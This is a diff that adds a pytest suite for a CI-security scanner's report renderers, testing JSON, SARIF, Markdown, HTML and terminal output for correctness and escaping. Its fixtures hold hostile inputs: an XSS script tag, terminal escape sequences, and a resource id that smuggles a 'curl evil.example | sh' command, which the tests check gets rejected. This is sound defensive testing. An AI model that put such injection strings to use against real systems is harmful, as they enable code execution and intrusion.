@@ -1,0 +1,433 @@
+"""Renderers of the findings document: JSON, SARIF, Markdown, HTML and the terminal table."""
+
+from __future__ import annotations
+
+import json
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import jsonschema
+import pytest
+from markdown_it import MarkdownIt
+from report_helpers import FINDINGS_SCHEMA, SHARED_SPEC, large_document, load
+from rich.console import Console
+
+from guardrails.reports import RENDERERS, OutputFormat, render
+from guardrails.reports.remediation import GUIDES, steps_for
+from guardrails.reports.table import print_table
+from guardrails.reports.text import clean, md_cell, mermaid_label
+
+CHECK_IDS = {
+    "ci-internet-exposed", "ci-firewall-allows-internet", "ci-internet-gateway-segment",
+    "ci-not-behind-load-balancer", "ci-reaches-production", "ci-admin-identity",
+    "ci-privilege-escalation", "ci-production-access", "ci-internet-to-admin-path", "ci-imds-v1",
+    "ci-secret-in-user-data", "ci-long-lived-runner",
+}
+HOSTILE_MARKERS = ("<script>alert(1)</script>", "\x1b[31m", "\x1b]8;;")
+
+
+@pytest.fixture(scope="module")
+def sample() -> dict:
+    return load("sample")
+
+
+@pytest.fixture(scope="module")
+def hostile() -> dict:
+    return load("hostile")
+
+
+def finding(document: dict, check_id: str, resource_prefix: str) -> dict:
+    return next(f for f in document["findings"] if f["check_id"] == check_id and f["resource"]["id"].startswith(resource_prefix))
+
+
+# --- the sample documents ---------------------------------------------------------------------
+
+@pytest.mark.parametrize("name", ["sample", "hostile"])
+def test_fixture_documents_follow_the_findings_schema(name):
+    schema = json.loads(FINDINGS_SCHEMA.read_text())
+    jsonschema.Draft202012Validator(schema).validate(load(name))
+
+
+def test_sample_exercises_every_check_both_sources_suppressions_and_gaps(sample):
+    assert {f["check_id"] for f in sample["findings"]} == CHECK_IDS == set(GUIDES)
+    assert {s["provider"] for s in sample["scan"]["sources"]} == {"aws", "terraform"}
+    assert any(f["status"] == "suppressed" for f in sample["findings"])
+    assert sample["coverage"]["gaps"]
+    path = finding(sample, "ci-internet-to-admin-path", "i-")["evidence"]["path"]
+    assert len(path) >= 6 and path[0]["kind"] == "internet" and path[-1]["kind"] == "account"
+
+
+def test_hostile_document_carries_every_breaker(hostile):
+    names = [f["resource"]["name"] for f in hostile["findings"]]
+    for marker in ("<script>alert(1)</script>", "|", "`", "\n", "-->", '"', "\x1b[31m", "["):
+        assert all(marker in name for name in names), marker
+
+
+# --- registry and JSON ------------------------------------------------------------------------
+
+def test_renderers_cover_every_output_format(sample):
+    assert set(RENDERERS) == {f.value for f in OutputFormat} == {"json", "sarif", "markdown", "html"}
+    assert render(sample, "html") == render(sample, OutputFormat.HTML)
+    with pytest.raises(ValueError, match="unknown report format 'pdf'"):
+        render(sample, "pdf")
+
+
+def test_json_keeps_the_document_and_its_order(sample):
+    text = render(sample, "json")
+    assert text.endswith("}\n")
+    assert json.loads(text) == sample
+    assert list(json.loads(text)) == list(sample)
+    assert text == json.dumps(sample, indent=2, ensure_ascii=False) + "\n"
+
+
+# --- SARIF ------------------------------------------------------------------------------------
+
+def sarif_schema() -> dict:
+    path = SHARED_SPEC / "sarif-schema-2.1.0.json"
+    if not path.exists():
+        pytest.skip(f"the official SARIF schema is read in place from {path}, which is absent (no ../shared checkout)")
+    return json.loads(path.read_text())
+
+
+@pytest.mark.parametrize("name", ["sample", "hostile"])
+def test_sarif_validates_against_the_official_schema(name):
+    schema = sarif_schema()
+    log = json.loads(render(load(name), "sarif"))
+    jsonschema.validators.validator_for(schema)(schema).validate(log)
+
+
+def test_sarif_rules_results_and_fingerprints_match_the_findings(sample):
+    run = json.loads(render(sample, "sarif"))["runs"][0]
+    driver = run["tool"]["driver"]
+    assert driver["name"] == "pipeline-guardrails" and driver["version"] == sample["tool"]["version"]
+    assert [r["id"] for r in driver["rules"]] == sorted({f["check_id"] for f in sample["findings"]})
+    assert len(run["results"]) == len(sample["findings"])
+    assert [r["partialFingerprints"]["guardrailsFindingId/v1"] for r in run["results"]] == [f["id"] for f in sample["findings"]]
+    for result, source in zip(run["results"], sample["findings"]):
+        assert result["ruleId"] == source["check_id"]
+        assert driver["rules"][result["ruleIndex"]]["id"] == source["check_id"]
+        assert result["message"]["text"] == source["message"]
+        assert result["level"] == {"critical": "error", "high": "error", "medium": "warning", "low": "note"}[source["severity"]]
+        assert ("suppressions" in result) == (source["status"] == "suppressed")
+        # GitHub displays only results with a physical location
+        assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+    rules = {r["id"]: r for r in driver["rules"]}
+    assert rules["ci-internet-to-admin-path"]["properties"]["security-severity"] == "9.5"
+    assert rules["ci-imds-v1"]["properties"]["security-severity"] == "8.0"  # worst of high and medium
+    assert rules["ci-internet-gateway-segment"]["properties"]["security-severity"] == "5.5"
+    assert rules["ci-long-lived-runner"]["properties"]["security-severity"] == "3.0"
+    assert "CICD-SEC-7" in rules["ci-internet-exposed"]["properties"]["tags"]
+    assert rules["ci-imds-v1"]["shortDescription"]["text"] == "Instance metadata accepts IMDSv1"
+    assert "IMDSv2" in rules["ci-imds-v1"]["help"]["text"] and "```hcl" in rules["ci-imds-v1"]["help"]["markdown"]
+    suppressed = [r for r in run["results"] if "suppressions" in r]
+    assert [r["suppressions"][0]["justification"] for r in suppressed] == [
+        f["suppression"]["reason"] for f in sample["findings"] if f["status"] == "suppressed"
+    ]
+    gaps = run["invocations"][0]["toolExecutionNotifications"]
+    assert len(gaps) == 2 and "codebuild_projects" in gaps[0]["message"]["text"]
+
+
+def test_sarif_locations_for_terraform_and_cloud_findings(sample):
+    results = json.loads(render(sample, "sarif"))["runs"][0]["results"]
+    by_key = {(r["ruleId"], r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]): r for r in results}
+
+    terraform = by_key[("ci-secret-in-user-data", "module.ci[0].aws_instance.runner")]
+    physical = terraform["locations"][0]["physicalLocation"]
+    assert physical["artifactLocation"] == {"uri": "infra/ci/modules/runner/main.tf"}
+    assert physical["region"] == {"startLine": 12, "endLine": 41}
+    assert terraform["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "infra/ci/plan.json"
+
+    cloud = by_key[("ci-imds-v1", "i-0a1b2c3d4e5f60718")]
+    artifact = cloud["locations"][0]["physicalLocation"]["artifactLocation"]
+    assert artifact == {"uri": "aws/111122223333/eu-west-1/i-0a1b2c3d4e5f60718", "uriBaseId": "ESTATE"}
+    assert cloud["locations"][0]["logicalLocations"][0]["kind"] == "resource"
+
+    codebuild = dict(sample["findings"][0], resource={
+        "id": "arn:aws:codebuild:eu-west-1:111122223333:project/build-app", "kind": "compute",
+        "name": "build-app", "provider": "aws", "account": "111122223333", "region": "eu-west-1"})
+    result = json.loads(render(dict(sample, findings=[codebuild]), "sarif"))["runs"][0]["results"][0]
+    uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+    assert uri == "aws/111122223333/eu-west-1/arn:aws:codebuild:eu-west-1:111122223333:project%2Fbuild-app"
+
+
+def test_sarif_terraform_finding_without_source_location_points_at_the_plan(sample, tmp_path):
+    item = finding(sample, "ci-internet-exposed", "module.")
+    resource = {k: v for k, v in item["resource"].items() if k != "source_location"}
+    plan = tmp_path / "envs" / "prod" / "plan.json"
+    document = dict(sample, findings=[dict(item, resource=resource)],
+                    scan=dict(sample["scan"], sources=[{"provider": "terraform", "scope": str(plan)}]))
+    from guardrails.reports.sarif import render_sarif
+
+    result = json.loads(render_sarif(document, base_dir=tmp_path))["runs"][0]["results"][0]
+    location = result["locations"][0]
+    assert location["physicalLocation"]["artifactLocation"]["uri"] == "envs/prod/plan.json"
+    assert location["logicalLocations"][0]["fullyQualifiedName"] == "module.ci[0].aws_instance.runner"
+    assert "region" not in location["physicalLocation"]
+
+
+def test_sarif_strips_terminal_escapes(hostile):
+    text = render(hostile, "sarif")
+    assert "\x1b" not in json.loads(text).__repr__() and "\\u001b" not in text
+
+
+# --- HTML -------------------------------------------------------------------------------------
+
+class Elements(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+
+def elements(html: str) -> list[tuple[str, dict]]:
+    parser = Elements()
+    parser.feed(html)
+    return parser.tags
+
+
+EXTERNAL = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*:)?//|^\s*(?:https?|ftp|file|javascript):", re.I)
+
+
+@pytest.mark.parametrize("name", ["sample", "hostile"])
+def test_html_is_self_contained_and_escaped(name):
+    document = load(name)
+    html = render(document, "html")
+    tags = elements(html)
+    assert "<script>alert" not in html and "\x1b" not in html
+    assert [t for t, _ in tags].count("script") == 1  # the report's own filter script
+    assert not any(t in ("img", "iframe", "object", "embed") for t, _ in tags)
+    for tag, attrs in tags:
+        for attr in ("src", "href", "action", "data", "xlink:href"):
+            if attrs.get(attr):
+                assert not EXTERNAL.match(attrs[attr]), (tag, attr, attrs[attr])
+        assert not any(key.startswith("on") for key in attrs), (tag, attrs)
+    csp = next(a["content"] for t, a in tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy")
+    assert "default-src 'none'" in csp and "img-src data:" in csp
+    assert '<svg class="attack-path"' in html
+    assert 'id="findings-table"' in html
+    rows = [a for t, a in tags if t == "tr" and "data-severity" in a]
+    assert len(rows) == len(document["findings"])
+    assert sum(1 for a in rows if a.get("data-status") == "suppressed") == 2
+
+
+def test_html_report_contents(sample):
+    html = render(sample, "html")
+    # executive summary: inventory with the classification reason, sources and gaps
+    assert "name contains &#39;jenkins&#39;" in html and "CodeBuild project in a VPC" in html
+    assert "infra/ci/plan.json" in html and "AccessDeniedException" in html
+    # attack paths first: the internet-to-admin path leads
+    attack = html.index('id="attack-paths"')
+    first = html.index("<details class=\"attack\"", attack)
+    assert html.index("Internet-to-admin path", first) < html.index("CI node runs as an administrator", first)
+    svg = html[html.index("<svg", attack): html.index("</svg>", attack)]
+    assert svg.count("<rect") == 8 and svg.count("<line") == 7
+    assert "instance profile jenkins-master-profile" in svg  # the via label of a hop
+    # per-node remediation with concrete commands
+    assert "aws ec2 modify-instance-metadata-options --instance-id i-0a1b2c3d4e5f60718 --http-tokens required" in html
+    assert "http_tokens                 = &#34;required&#34;" in html
+    assert "Docker executor needs hop limit 2" in html
+    assert "CICD-SEC-7" in html and "elevation_of_privilege" in html
+
+
+def test_html_escapes_inside_svg(hostile):
+    html = render(hostile, "html")
+    start = html.index("<svg")
+    svg = html[start: html.index("</svg>", start)]
+    assert "<script" not in svg and "&lt;script&gt;" in svg
+    assert {t for t, _ in elements(svg)} <= {"svg", "defs", "marker", "path", "g", "title", "rect", "text", "line"}
+
+
+# --- Markdown ---------------------------------------------------------------------------------
+
+def unescaped_pipes(line: str) -> int:
+    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))
+
+
+def markdown_tables(text: str) -> list[list[str]]:
+    tables, current = [], []
+    in_fence = False
+    for line in text.splitlines():
+        if line.startswith("```"):
+            in_fence = not in_fence
+        if not in_fence and line.startswith("|"):
+            current.append(line)
+        elif current:
+            tables.append(current)
+            current = []
+    return tables + ([current] if current else [])
+
+
+@pytest.mark.parametrize("name", ["sample", "hostile"])
+def test_markdown_tables_keep_their_columns(name):
+    text = render(load(name), "markdown")
+    tables = markdown_tables(text)
+    assert len(tables) >= 5
+    for table in tables:
+        assert len({unescaped_pipes(row) for row in table}) == 1, table
+    # and a GFM parser agrees: every row has as many cells as the header
+    tokens = MarkdownIt("commonmark").enable("table").parse(text)
+    html = MarkdownIt("commonmark").enable("table").render(text)
+    assert "<script" not in html and "<img" not in html
+    cells: list[int] = []
+    for token in tokens:
+        if token.type == "tr_open":
+            cells.append(0)
+        elif token.type in ("th_open", "td_open"):
+            cells[-1] += 1
+        elif token.type == "table_close":
+            assert len(set(cells)) == 1, cells
+            cells = []
+
+
+def mermaid_blocks(text: str) -> list[str]:
+    return re.findall(r"^```mermaid\n(.*?)\n```$", text, flags=re.S | re.M)
+
+
+@pytest.mark.parametrize("name", ["sample", "hostile"])
+def test_markdown_draws_attack_paths_as_mermaid(name):
+    document = load(name)
+    text = render(document, "markdown")
+    blocks = mermaid_blocks(text)
+    admin_path = finding(document, "ci-internet-to-admin-path", "i-")["evidence"]["path"]
+    assert len(blocks) == 3  # the admin path, then the two other critical findings with a path
+    lines = blocks[0].splitlines()
+    assert lines[0] == "flowchart LR"
+    nodes = [line for line in lines[1:] if re.fullmatch(r'  n\d+\["[^"`]*"\]', line)]
+    edges = [line for line in lines[1:] if re.fullmatch(r'  n\d+ -->(\|"[^"|`]*"\| )?n\d+|  n\d+ --> n\d+', line)]
+    assert len(nodes) == len(admin_path) and len(edges) == len(admin_path) - 1
+    assert len(nodes) + len(edges) == len(lines) - 1
+    assert all("-->" not in line for line in nodes) and all(line.count("-->") == 1 for line in edges)
+    labels = re.findall(r'"([^"]*)"', blocks[0])
+    assert len(labels) >= len(nodes) and not any(ch in label for label in labels for ch in "<>`|[]\x1b")
+
+
+def test_markdown_report_contents(sample):
+    text = render(sample, "markdown")
+    assert text.index("## Executive summary") < text.index("## Attack paths") < text.index("## Findings by CI node")
+    assert "| Medium | 2 | 1 |" in text
+    assert "CodeBuild project in a VPC" in text and "codebuild\\_projects" in text
+    assert "aws ec2 modify-instance-metadata-options --instance-id i-0a1b2c3d4e5f60718 --http-tokens required" in text
+    assert "> Suppressed: Docker executor needs hop limit 2 until the migration to Fargate (until 2027-03-31)" in text
+    assert "STRIDE elevation\\_of\\_privilege; OWASP CI/CD CICD-SEC-2, CICD-SEC-5" in text
+
+
+def test_markdown_hostile_text_is_literal(hostile):
+    text = render(hostile, "markdown")
+    assert "\x1b" not in text
+    html = MarkdownIt("commonmark").enable("table").render(text)
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert 'href="http' not in html and "<a href=\"#finding-" in html
+
+
+def test_markdown_and_html_without_inventory_list_ci_nodes_from_findings(sample):
+    document = {k: v for k, v in sample.items() if k != "inventory"}
+    text = render(document, "markdown")
+    assert "The document lists no CI inventory" in text
+    inventory = text[text.index("### CI inventory"): text.index("### Coverage gaps")]
+    assert "`module.ci[0].aws_instance.runner`" in inventory and "build-app" not in inventory
+    assert "The document lists no CI inventory" in render(document, "html")
+
+
+# --- text escaping ----------------------------------------------------------------------------
+
+@pytest.mark.parametrize("raw, expected", [
+    ("\x1b[31mred\x1b[0m", "red"),
+    ("\x1b]8;;http://x/\x07link\x1b]8;;\x07", "link"),
+    ("a\x00b\x07c\x7fd\x85e", "abcde"),
+    ("csi\x9b2Jc1", "csic1"),
+    ("abc\u202edcba", "abcdcba"),
+    ("tab\tand\nnewline", "tab\tand\nnewline"),
+])
+def test_clean_strips_escape_sequences_and_controls(raw, expected):
+    assert clean(raw) == expected
+
+
+def test_md_cell_and_mermaid_label():
+    assert md_cell("a|b\nc") == "a\\|b c"
+    assert md_cell("") == " "
+    assert mermaid_label('x"] --> y[') == "x#34;#93; --#62; y#91;"
+
+
+# --- remediation ------------------------------------------------------------------------------
+
+def test_cli_commands_use_the_findings_own_ids(sample):
+    imds = steps_for(finding(sample, "ci-imds-v1", "i-0a1b"))
+    assert imds.commands == ["aws ec2 modify-instance-metadata-options --instance-id i-0a1b2c3d4e5f60718"
+                             " --http-tokens required --http-put-response-hop-limit 1 --http-endpoint enabled"]
+    firewall = steps_for(finding(sample, "ci-firewall-allows-internet", "i-0a1b"))
+    assert any("--group-id sg-0a1b2c3d4e5f60006" in c for c in firewall.commands)
+    segment = steps_for(finding(sample, "ci-internet-gateway-segment", "i-0a1b"))
+    assert segment.commands and "--route-table-id rtb-0a1b2c3d4e5f60002" in segment.commands[0]
+    admin = steps_for(finding(sample, "ci-admin-identity", "i-0a1b"))
+    assert ("aws iam detach-role-policy --role-name jenkins-master-role"
+            " --policy-arn arn:aws:iam::aws:policy/AdministratorAccess") in admin.commands
+    production = steps_for(finding(sample, "ci-production-access", "i-0fed"))
+    assert any("update-assume-role-policy --role-name prod-deploy" in c for c in production.commands)
+
+
+def test_terraform_resources_get_terraform_but_no_cli(sample):
+    steps = steps_for(finding(sample, "ci-secret-in-user-data", "module."))
+    assert steps.terraform and "aws_ssm_parameter" in steps.terraform
+    assert steps.commands == []
+
+
+def test_cli_commands_never_carry_estate_text_unquoted(sample):
+    item = finding(sample, "ci-imds-v1", "i-0a1b")
+    hostile_id = dict(item, resource=dict(item["resource"], id="i-0a1b2c3d4e5f60718; curl evil.example | sh"))
+    assert steps_for(hostile_id).commands == []
+    role = "arn:aws:iam::111122223333:role/it's"
+    admin = finding(sample, "ci-admin-identity", "i-0a1b")
+    path = [admin["evidence"]["path"][0], {"id": role, "kind": "identity", "name": "x"}]
+    commands = steps_for(dict(admin, evidence=dict(admin["evidence"], path=path))).commands
+    assert commands == []  # not a valid role name: no command rather than a guessed one
+
+
+def test_other_providers_get_only_the_remediation_text(sample):
+    item = finding(sample, "ci-admin-identity", "i-0a1b")
+    gcp = dict(item, resource=dict(item["resource"], provider="gcp", id="projects/p/zones/z/instances/jenkins"))
+    steps = steps_for(gcp)
+    assert steps.text == item["remediation"] and steps.terraform is None and steps.commands == []
+
+
+# --- terminal table ---------------------------------------------------------------------------
+
+def table_output(document: dict) -> tuple[str, str]:
+    console = Console(record=True, width=200, force_terminal=True, color_system="truecolor")
+    print_table(document, console)
+    return console.export_text(styles=False), console.export_text(styles=True)
+
+
+def test_table_groups_findings_and_summarises(sample):
+    plain, _ = table_output(sample)
+    assert plain.index("jenkins-master (server)") < plain.index("gitlab-runner-01 (runner)") < plain.index("runner (runner)")
+    assert "14 open findings: 3 critical, 8 high, 2 medium, 1 low (2 suppressed); 57 resources scanned, 4 CI nodes, 2 coverage gaps" in plain
+    assert "aws/111122223333/us-east-1: codebuild_projects: AccessDeniedException" in plain
+    assert "(suppressed: Docker executor needs hop limit 2 until the migration to Fargate)" in plain
+    assert "tcp/22, tcp/8080" in plain
+
+
+def test_table_cannot_be_restyled_by_the_estate(hostile):
+    plain, styled = table_output(hostile)
+    assert "\x1b" not in plain
+    assert "[bold]red[/bold]" in plain and "<script>alert(1)</script>" in plain
+    # the only escape sequences are the table's own SGR colours: no OSC hyperlinks, no cursor moves
+    assert not re.search(r"\x1b(?!\[[0-9;]*m)", styled)
+    assert "\x1b[31mRED" not in styled
+
+
+# --- scale ------------------------------------------------------------------------------------
+
+def test_a_thousand_findings_render_in_every_format():
+    document = large_document(1000)
+    html = render(document, "html")
+    assert html.count('<tr data-severity="') == 1000
+    assert '<details id="node-1" class="node">' in html  # collapsed at this size
+    assert len(json.loads(render(document, "sarif"))["runs"][0]["results"]) == 1000
+    assert render(document, "markdown").count("<a id=\"finding-") == 1000
+    plain, _ = table_output(document)
+    suppressed = sum(f["status"] == "suppressed" for f in document["findings"])
+    assert f"{1000 - suppressed} open findings" in plain and f"({suppressed} suppressed)" in plain
+    assert json.loads(render(document, "json")) == document
